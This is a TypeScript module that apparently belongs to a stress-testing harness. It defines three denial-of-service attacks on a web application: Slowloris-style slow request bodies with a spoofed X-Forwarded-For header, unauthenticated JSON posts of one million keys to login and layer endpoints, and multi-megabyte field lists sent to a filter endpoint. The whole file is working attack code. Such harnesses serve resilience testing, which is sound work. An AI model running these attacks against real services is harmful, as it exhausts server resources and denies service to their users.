import { type Attack, again, once, open, pause, send } from "./attack.js";

/** Bodies that are slow, large, or full of names. */

const slowConnections = 40;
const slowBytes = 60_000;

const slowBodies: Attack = {
  name: "slow-bodies",
  clients: 1,
  run: async (at) => {
    const head =
      `POST ${at.victim.login} HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${at.address}\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${slowBytes}\r\n\r\n{"user":"`;
    const sockets = Array.from({ length: slowConnections }, () => open(at, head));
    while (!at.signal.aborted) {
      for (const socket of sockets) if (!socket.destroyed) socket.write("x");
      await pause(at.signal, 200);
    }
  },
};

const members = once(() =>
  Buffer.from(`{${Array.from({ length: 1_000_000 }, (_, index) => `"k${index}":1`).join(",")}}`),
);

/** Without a token, to whatever takes a body. */
const largeBodies: Attack = {
  name: "large-bodies",
  clients: 2,
  run: async (at) => {
    const { map, layer, login } = at.victim;
    const body = members();
    const paths = [login, `${map}layers/`, `${layer}objects/`, `${layer}import/`, `${layer}filter/`];
    await again(at, async () => {
      const headers = { "content-type": "application/json" };
      await send(at, at.random.one(paths), { method: "POST", body, headers });
      return false;
    });
  },
};

const manyNames: Attack = {
  name: "many-names",
  clients: 2,
  run: async (at) => {
    const path = `${at.victim.layer}filter/`;
    const names = "name,".repeat(2_000_000);
    const bodies = [
      ["application/x-www-form-urlencoded", Buffer.from(`fields=${names}`)],
      ["application/json", Buffer.from(`{"fields":"${names}"}`)],
      // As much as such a request may have.
      ["application/json", Buffer.from(`{"fields":"${"name,".repeat(12_000)}"}`)],
    ] as const;
    await again(at, async () => {
      const [type, body] = at.random.one(bodies);
      await send(at, path, { method: "POST", body, headers: { "content-type": type } });
      return false;
    });
  },
};

export const bodies: readonly Attack[] = [slowBodies, largeBodies, manyNames];
